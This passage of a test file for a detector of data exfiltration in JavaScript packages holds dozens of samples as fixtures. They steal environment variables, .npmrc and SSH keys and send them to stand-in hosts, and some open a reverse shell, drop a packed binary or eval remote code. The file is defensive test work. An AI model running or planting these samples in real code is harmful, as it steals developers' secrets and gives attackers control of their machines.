    'class C{constructor(){this.c={k:undefined}} set(k){this.c.k=k} go(){SEND«this.c.k»}} READ;const c=new C();c.set(k);c.go()',
  ],
  [
    'a loader in a URL',
    "require('module').register('data:text/javascript,'+encodeURIComponent(`fetch('x',{body:JSON.stringify(process.env)})`))",
  ],
  [
    'a worker in a URL',
    "const {Worker}=require('worker_threads');new Worker(new URL(`data:text/javascript,fetch('x',{body:JSON.stringify(process.env)})`))",
  ],
  [
    'a program that node reads',
    "const p=require('child_process').spawn(process.execPath,['-']);p.stdin.end(`fetch('x',{body:JSON.stringify(process.env)})`)",
  ],
  [
    'a module that is written first',
    "require('fs').writeFileSync('/tmp/z.js',`fetch('x',{body:JSON.stringify(process.env)})`);require('/tmp/z.js')",
  ],
  [
    'a service that is kept in private',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{#t;constructor(t){this.#t=t} go(){this.#t.send(process.env)}} new C(new T()).go()",
  ],
  [
    'the data of a worker',
    {
      'index.js':
        "const {Worker}=require('worker_threads');new Worker(require('path').join(__dirname,'w.js'),{workerData:{e:{...process.env}}})",
      'w.js':
        "const {workerData}=require('node:worker_threads');require('net').connect(443,'192.0.2.1').end(JSON.stringify(workerData.e))",
    },
  ],
  [
    'a message to a worker',
    {
      'index.js': "const {Worker}=require('worker_threads');const w=new Worker('./w.js');w.postMessage(process.env)",
      'w.js': "const {parentPort}=require('worker_threads');parentPort.on('message',m=>{SEND«JSON.stringify(m)»})",
    },
  ],
  [
    'a message to a child',
    {
      'index.js':
        "const {fork}=require('child_process');const c=fork(require.resolve('./w.js'));c.send({kind:'a',data:Object.assign({},process.env)})",
      'w.js': "process.on('message',async(m)=>{if(m.kind!=='a')return;SEND«JSON.stringify(m.data)»})",
    },
  ],
  [
    'an event',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
      'w.js': "const bus=require('./bus');bus.on('boot',({env})=>{SEND«JSON.stringify(env)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'the global object',
    {
      'index.js': "globalThis.__cfg=process.env;require('./w')",
      'w.js': 'SEND«JSON.stringify(__cfg)»',
    },
  ],
  [
    'an object that another module made',
    {
      'index.js': "import {store} from './store.js';import './fill.js';SEND«JSON.stringify(store.data)»",
      'fill.js': "import {store} from './store.js';store.data={...process.env}",
      'store.js': 'export const store={data:{}}',
    },
    { type: 'module' },
  ],
  [
    'a map that another module made',
    {
      'index.js': "const {cache}=require('./store');require('./fill');SEND«JSON.stringify(cache.get('e'))»",
      'fill.js': "const {cache}=require('./store');cache.set('e',process.env)",
      'store.js': 'exports.cache=new Map()',
    },
  ],
  [
    'a proxy before the environment',
    'const s=new Proxy({},{get:(_,k)=>Reflect.get(process.env,k),ownKeys:()=>Reflect.ownKeys(process.env)});const b={};for(const k of Reflect.ownKeys(s))b[k]=s[k];SEND«JSON.stringify(b)»',
  ],
  [
    'what a client sends with every request',
    "const axios=require('axios').default;axios.defaults.headers.common['x-e']=JSON.stringify(process.env);axios.get('https://a.example')",
  ],
  [
    'what a client is made with',
    "const c=require('axios').create({baseURL:'https://a.example',headers:{e:JSON.stringify(process.env)}});c.get('/')",
  ],
  [
    'what sees each request of a client',
    "const c=require('axios').create({});c.interceptors.request.use((cfg)=>{cfg.data=process.env;return cfg});c.post('/')",
  ],
];

const WAYS: readonly Row[] = [
  ['alias fn', "READ;const f=fetch;f('https://c.example',{body:k})"],
  ['wrapper', "READ;function up(d){return fetch('https://c.example',{body:d})} up(k)"],
  [
    'wrapper 2',
    "READ;const post=(u,d)=>fetch(u,{body:d});const up=d=>post('https://c.example',JSON.stringify(d));up({k})",
  ],
  ['class method', "READ;class U{constructor(u){this.u=u} send(d){return fetch(this.u,{body:d})}} new U('x').send(k)"],
  ['class field', "READ;class U{constructor(){this.d=k} send(){return fetch('x',{body:this.d})}} new U().send()"],
  ['class private', "READ;class U{#d=k; send(){return fetch('x',{body:this.#d})}} new U().send()"],
  ['class static', "READ;class U{static d=k; static send(){return fetch('x',{body:U.d})}} U.send()"],
  [
    'collector class',
    "const fs=require('fs');class C{constructor(){this.items={}} collect(){this.items.npm=fs.readFileSync(process.env.HOME+'/.npmrc')} async flush(){await fetch('x',{body:JSON.stringify(this.items)})}} const c=new C();c.collect();c.flush()",
  ],
  ['object method', "READ;const o={send(d){return fetch('x',{body:d})}};o.send(k)"],
  ['object arrow', "READ;const o={send:d=>fetch('x',{body:d})};o['send'](k)"],
  ['bind', "READ;const f=fetch.bind(null,'x');f({body:k})"],
  ['call/apply', "READ;fetch.apply(null,['x',{body:k}])"],
  ['Reflect.apply', "READ;Reflect.apply(fetch,null,['x',{body:k}])"],
  ['spread args', "READ;const a=['x',{body:k}];fetch(...a)"],
  ['destructure default', "READ;const {a=k}={};fetch('x',{body:a})"],
  ['param default', "READ;function f(d=k){fetch('x',{body:d})} f()"],
  ['array index', "READ;const a=[1,k];fetch('x',{body:a[1]})"],
  ['map.set', "READ;const m=new Map();m.set('a',k);fetch('x',{body:JSON.stringify([...m])})"],
  ['global var', "READ;globalThis.d=k;fetch('x',{body:globalThis.d})"],
  [
    'closure var',
    "let k;function a(){k=require('fs').readFileSync(process.env.HOME+'/.npmrc')} function b(){fetch('x',{body:k})} a();b()",
  ],
  [
    'module prop',
    "const st={};function a(){st.k=require('fs').readFileSync(process.env.HOME+'/.npmrc')} function b(){fetch('x',{body:JSON.stringify(st)})} a();b()",
  ],
  ['event emitter', "READ;const e=new (require('events'))();e.on('x',d=>fetch('x',{body:d}));e.emit('x',k)"],
  ['promise resolve', "READ;Promise.resolve(k).then(d=>fetch('x',{body:d}))"],
  [
    'new Promise',
    "const p=new Promise(r=>require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>r(d)));p.then(d=>fetch('x',{body:d}))",
  ],
  [
    'Promise.all',
    "const fs=require('fs').promises;Promise.all(['.npmrc','.netrc'].map(f=>fs.readFile(process.env.HOME+'/'+f))).then(([a,b])=>fetch('x',{body:a}))",
  ],
  [
    'async fn chain',
    "async function rd(){return require('fs').promises.readFile(process.env.HOME+'/.npmrc')} async function main(){const d=await rd();await fetch('x',{body:d})} main()",
  ],
  [
    'callback wrapper',
    "function rd(cb){require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>cb(d))} rd(d=>fetch('x',{body:d}))",
  ],
  [
    'node cb wrapper',
    "function rd(f,cb){require('fs').readFile(f,cb)} rd(process.env.HOME+'/.npmrc',(e,d)=>fetch('x',{body:d}))",
  ],
  [
    'reader wrapper',
    "const fs=require('fs');function rd(f){try{return fs.readFileSync(f,'utf8')}catch{return ''}} fetch('x',{body:rd(process.env.HOME+'/.npmrc')})",
  ],
  [
    'reader wrapper join',
    "const fs=require('fs'),path=require('path'),os=require('os');const home=os.homedir();const rd=(...p)=>fs.readFileSync(path.join(home,...p));fetch('x',{body:rd('.ssh','id_rsa')})",
  ],
  ['generator', "READ;function*g(){yield k} for(const d of g())fetch('x',{body:d})"],
  [
    'reduce',
    "const fs=require('fs');const d=['.npmrc'].reduce((o,f)=>{o[f]=fs.readFileSync(process.env.HOME+'/'+f);return o},{});fetch('x',{body:JSON.stringify(d)})",
  ],
  ['setTimeout args', "READ;setTimeout((d)=>fetch('x',{body:d}),9,k)"],
  ['IIFE param', "READ;(function(d){fetch('x',{body:d})})(k)"],
  ['logical assign', "READ;let d;d??=k;fetch('x',{body:d})"],
  ['plus assign', "READ;let d='';d+=k;fetch('x',{body:d})"],
  ['tagged', "READ;const t=(s,...v)=>v[0];fetch('x',{body:t`${k}`})"],
  ['getter', "READ;const o={get a(){return k}};fetch('x',{body:o.a})"],
  ['Object.defineProperty', "READ;const o={};Object.defineProperty(o,'a',{value:k});fetch('x',{body:o.a})"],
  ['switch/try', "READ;let d;try{d=k}finally{}fetch('x',{body:d})"],
  [
    'recursion walk',
    "const fs=require('fs'),path=require('path');const out=[];function walk(d){for(const f of fs.readdirSync(d)){const p=path.join(d,f);if(fs.statSync(p).isDirectory())walk(p);else out.push(fs.readFileSync(p))}} walk(process.env.HOME+'/.ssh');fetch('x',{body:Buffer.concat(out)})",
  ],
  ['require concat', "const fs=require('f'+'s');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'require b64',
    "const fs=require(Buffer.from('ZnM=','base64').toString());fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['module.require', "const fs=module.require('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'mainModule',
    "const fs=process.mainModule.require('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['process.binding', "const fs=process.binding('fs');fetch('x',{body:fs.readFileUtf8(process.env.HOME+'/.npmrc')})"],
  [
    'getBuiltin',
    "const fs=process.getBuiltinModule('node:fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  [
    'createRequire',
    "import {createRequire} from 'module';const require=createRequire(import.meta.url);fetch('x',{body:require('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['dynamic import', "const fs=await import('node:fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'dynamic import default',
    "const {default:fs}=await import('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  [
    'import all',
    "const [fs,https]=await Promise.all([import('fs'),import('https')]);const q=https.request('x');q.end(fs.readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  ['import then', "import('fs').then(fs=>fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')}))"],
  ['req alias', "const r=require;fetch('x',{body:r('fs').readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'modules map',
    "const m=['fs','https'].map(require);const q=m[1].request('x');q.end(m[0].readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'modules map arrow',
    "const [fs,https]=['fs','https'].map(n=>require(n));const q=https.request('x');q.end(fs.readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  ['eval require', "const fs=eval('require')('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'Function require',
    "const r=new Function('return require')();fetch('x',{body:r('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['this.constructor', "const g=(function(){return this})();fetch('x',{body:JSON.stringify(g.process.env)})"],
  [
    'computed fs method',
    "const fs=require('fs');fetch('x',{body:fs['read'+'FileSync'](process.env['HO'+'ME']+'/.npm'+'rc')})",
  ],
  [
    'wrapper of require',
    "function load(n){return require(n)} fetch('x',{body:load('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['obj of req', "const M={f:'fs'};fetch('x',{body:require(M.f).readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'two modules cjs',
    {
      'index.js': "const {collect}=require('./a');const {up}=require('./b');up(collect())",
      'a.js': "exports.collect=()=>require('fs').readFileSync(process.env.HOME+'/.npmrc')",
      'b.js': "exports.up=d=>fetch('https://c.example',{body:d})",
    },
  ],
  [
    'two modules esm',
    {
      'index.js': "import collect from './a.js';import up from './b.js';up(await collect())",
      'a.js': "import fs from 'fs';export default async function(){return fs.readFileSync(process.env.HOME+'/.npmrc')}",
      'b.js': "export default async(d)=>{await fetch('https://c.example',{body:d})}",
    },
    { type: 'module' },
  ],
  [
    're-export',
    {
      'index.js': "import {collect,up} from './lib/index.js';up(collect())",
      'lib/index.js': "export * from './a.js';export {send as up} from './b.js'",
      'lib/a.js': "import fs from 'fs';export const collect=()=>fs.readFileSync(process.env.HOME+'/.npmrc')",
      'lib/b.js': "export const send=(d)=>fetch('https://c.example',{body:d})",
    },
    { type: 'module' },
  ],
  [
    'three hops',
    {
      'index.js': "const c=require('./c');c.run()",
      'c.js': "const a=require('./a'),b=require('./b');exports.run=()=>b.up(a.all())",
      'a.js': "const {rd}=require('./r');exports.all=()=>({n:rd('.npmrc')})",
      'r.js': "const fs=require('fs');exports.rd=f=>fs.readFileSync(process.env.HOME+'/'+f)",
      'b.js': "const h=require('./h');exports.up=d=>h.post(JSON.stringify(d))",
      'h.js': "exports.post=d=>fetch('https://c.example',{body:d})",
    },
  ],
  [
    'class across',
    {
      'index.js': "const C=require('./c');const U=require('./u');new U().send(new C().collect())",
      'c.js': "module.exports=class{collect(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')}}",
      'u.js': "module.exports=class{send(d){return fetch('https://c.example',{body:d})}}",
    },
  ],
  [
    'instance across',
    {
      'index.js': "const c=require('./c');const u=require('./u');u.send(c.collect())",
      'c.js':
        "class C{collect(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')}} module.exports=new C()",
      'u.js': "class U{send(d){return fetch('https://c.example',{body:d})}} module.exports=new U()",
    },
  ],
  [
    'paths across',
    {
      'index.js':
        "const {files}=require('./p');const fs=require('fs');const r=files.map(f=>fs.readFileSync(f));fetch('https://c.example',{body:r.join()})",
      'p.js': "const os=require('os');exports.files=[os.homedir()+'/.npmrc',os.homedir()+'/.ssh/id_rsa']",
    },
  ],
  [
    'url across',
    {
      'index.js': "const {H}=require('./p');fetch(H,{body:JSON.stringify(process.env)})",
      'p.js': "exports.H='https://c.example'",
    },
  ],
  [
    'callback across',
    {
      'index.js': "const {rd}=require('./a');rd(d=>fetch('https://c.example',{body:d}))",
      'a.js': "exports.rd=cb=>require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>cb(d))",
    },
  ],
];

describe('what is collected and sent', () => {
  test.each([...SOURCES, ...SINKS, ...WAYS, ...COMPILED, ...CHANNELS].map(([name, ...row]) => ({ name, row })))(
    '$name',
    ({ row }) => {
      expect(flowsIn(...row).filter((flow) => LEFT.test(flow))).not.toEqual([]);
    },
  );
});

const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = [
  [
    'who this is',
    "const os=require('os');SEND«JSON.stringify({h:os.hostname(),u:os.userInfo().username})»",
    'identity to network',
  ],
  [
    'who this is, by a command',
    "const c=require('child_process').execSync('whoami').toString();SEND«c»",
    'identity to network',
  ],
  [
    'whose work this is',
    "const c=require('child_process').execSync('git config --get user.email');SEND«c»",
    'identity to network',
  ],
  ['a file that is copied to another', "READ;require('fs').writeFileSync('/tmp/x',k)", 'secret file to write'],
  [
    'a file that is copied through a stream',
    "READ;const w=require('fs').createWriteStream('/tmp/x');w.write(k)",
    'secret file to write',
  ],
  [
    'a shell for whoever answers',
    "const n=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh');const c=n.connect(4,'192.0.2.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
    'remote to process',
  ],
  [
    'a packed program that is written and started',
    "const fs=require('fs');fs.writeFileSync('/tmp/x',Buffer.from('f0VMRgIBAQA=','base64'),{mode:0o755});require('child_process').spawn('/tmp/x')",
    'packed to dropped',
  ],
  [
    'a packed module that is written and loaded',
    "const fs=require('fs'),p=require('os').tmpdir()+'/x.js';fs.writeFileSync(p,atob('YWxlcnQoMSk='));require(p)",
    'packed to loaded',
  ],
  [
    'a download that is written and loaded by its URL',
    "import {writeFile} from 'fs/promises';import {pathToFileURL} from 'url';const f=require('os').tmpdir()+'/n.mjs';await writeFile(f,await (await fetch('https://c.example')).text());await import(pathToFileURL(f).href)",
    'remote to loaded',
  ],
  [
    'the environment in a report of errors',
    "const S=require('@sentry/node');S.setContext('e',process.env)",
    'environment to service',
  ],
  [
    'a row of a database',
    "const {Client}=require('pg');const c=new Client();c.query('insert into t values($1)',[JSON.stringify(process.env)])",
    'environment to service',
  ],
  [
    'what a callback of a request is given',
    "const request=require('request');request.get('https://c.example',(e,r,b)=>{eval(b)})",
    'remote to code',
  ],
  [
    'an event that is sent',
    "const es=new EventSource('https://c.example');es.onmessage=(m)=>eval(m.data)",
    'part of remote to code',
  ],
  [
    'a message that is a command',
    "const ws=new (require('ws'))('wss://c.example');ws.on('message',(m)=>require('child_process').exec(m.toString()))",
    'remote to process',
  ],
  [
    'a request that is a command',
    "require('http').createServer((q,s)=>{q.on('data',(d)=>require('child_process').exec(`${d}`))})",
    'request to process',
  ],
];

test.each(OTHER)('%s', (_, code, flow) => expect(flowsIn(code)).toContain(flow));

const STAYS: readonly Row[] = [
  [
    'one key to its vendor',
    "fetch('https://api.vendor.example/',{headers:{authorization:`Bearer ${process.env.VENDOR_API_KEY}`}})",
  ],
  ['two settings taken from the environment', 'const {HOST,KEY}=process.env;fetch(HOST,{headers:{k:KEY}})'],
  ['a variable whose name the caller gives', 'exports.f=(n)=>fetch("https://a.example",{headers:{k:process.env[n]}})'],
  [
    'settings made from the environment, one used',
    'const c=Object.fromEntries(Object.entries(process.env));fetch(c.URL)',
  ],
  ['the environment for a child', "require('child_process').spawn('git',['status'],{env:{...process.env}})"],
  [
    'that of a program that fetches',
    "require('child_process').spawn('curl',['-O','https://a.example/x'],{env:process.env})",
  ],
  [
    'the same through a function that starts programs',
    "const {spawn}=require('child_process');const run=(f,a,o)=>spawn(f,a,{stdio:'inherit',...o});run('curl',['-O','https://a.example/x'],{env:{...process.env,CI:'1'}})",
  ],
  [
    'the same, without some of it',
    "const env=Object.fromEntries(Object.entries(process.env).filter(([k])=>!k.startsWith('npm_')));env.CI='1';require('child_process').execSync('wget https://a.example/x',{env})",
  ],
  [
    'that of a program that uploads a folder',
    "require('child_process').execSync('aws s3 sync dist s3://site',{env:process.env})",
  ],
  [
    'a key of a dotenv file',
    "const c=require('dotenv').parse(require('fs').readFileSync('.env'));fetch('https://a.example',{headers:{k:c.API_KEY}})",
  ],
  ['a file of the package', "SEND«require('fs').readFileSync(__dirname+'/query.graphql','utf8')»"],
  ['a question whether a file is there', "if(require('fs').existsSync(process.env.HOME+'/.npmrc'))SEND«'yes'»"],
  ['a comparison with the environment', 'SEND«String(x===process.env)»'],
  ['how many variables there are', 'SEND«String(Object.keys(process.env).length)»'],
  ['a public key', "SEND«require('fs').readFileSync(process.env.HOME+'/.ssh/id_rsa.pub')»"],
  [
    'a credential in another function of the same name',
    "function a(){const k=require('fs').readFileSync(process.env.HOME+'/.npmrc');return 1} function b(k){fetch('https://a.example',{body:k})} a();b('x')",
  ],
  [
    'what another method of the class reads',
    "class C{a(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')} b(d){return fetch('https://a.example',{body:d})}} new C().b('x')",
  ],
  [
    'an event of another name',
    "READ;const e=new (require('events'))();e.on('y',d=>fetch('https://a.example',{body:d}));e.emit('x',k)",
  ],
  [
    'what an async function waited for, and did not give back',
    `${AWAITER}function rd(){return __awaiter(this,void 0,void 0,function*(){yield check(require('fs').readFileSync(process.env.HOME+'/.npmrc'));return 1})} rd().then(d=>{SEND«d»})`,
  ],
  [
    'another private field',
    `${FIELDS}var _C_a,_C_b;class C{constructor(){_C_a.set(this,process.env);_C_b.set(this,1)} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_b,"f"))»}} _C_a=new WeakMap(),_C_b=new WeakMap();new C().go()`,
  ],
  [
    'another service of the same class',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
  ],
  [
    'a function of another module that takes a part',
    {
      'index.js': "const {pick}=require('./util');SEND«JSON.stringify(pick(process.env))»",
      'util.js': 'exports.pick=(o)=>({url:o.WEATHER_URL,key:o.WEATHER_KEY})',
    },
  ],
  [
    'what a function of another module was given there',
    {
      'index.js': "const {log}=require('./util');SEND«log('x')»",
      'util.js':
        'exports.log=(t)=>String(t);console.log(exports.log(process.env));const {log}=exports;log(process.env)',
    },
  ],
  [
    'another place that another module names',
    {
      'index.js': "const c=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+c.own)»",
      'c.js': "module.exports={own:'/.weather/city',theirs:'/.npmrc'}",
    },
  ],
  [
    'another module of the table',
    '(()=>{var e={11:(e,t,r)=>{t.a=()=>process.env},12:(e,t,r)=>{t.a=()=>1}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{SEND«JSON.stringify(r(12).a())»})()})();',
  ],
  [
    'what lies elsewhere in an object that another module made',
    {
      'index.js': "const {store}=require('./store');require('./fill');SEND«JSON.stringify(store.city)»",
      'fill.js': "const {store}=require('./store');store.data={...process.env};store.city='x'",
      'store.js': 'exports.store={}',
    },
  ],
  [
    'another part of a message',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
      'w.js': "const bus=require('./bus');bus.on('boot',({at})=>{SEND«JSON.stringify(at)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'one variable of the environment that a worker is given',
    {
      'index.js': "const {Worker}=require('worker_threads');new Worker('./w.js',{workerData:{env:process.env}})",
      'w.js': "const {workerData}=require('worker_threads');SEND«workerData.env.WEATHER_URL»",
    },
  ],
  [
    'an event of another name in another module',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',process.env)",
      'w.js': "const bus=require('./bus');bus.on('city',(c)=>{SEND«JSON.stringify(c)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'a module that only has the same word',
    {
      'index.js': "const {up}=require('./b');up('x')",
      'b.js': "exports.up=d=>fetch('https://a.example',{body:d})",
      'a.js': "exports.up=()=>require('fs').readFileSync(process.env.HOME+'/.npmrc')",
    },
  ],
];

describe('what stays, or is a part that was asked for by name', () => {
  test.each(STAYS.map(([name, ...row]) => ({ name, row })))('$name', ({ row }) => {
    expect(flowsIn(...row).filter((flow) => LEFT_WHOLE.test(flow))).toEqual([]);
  });
});
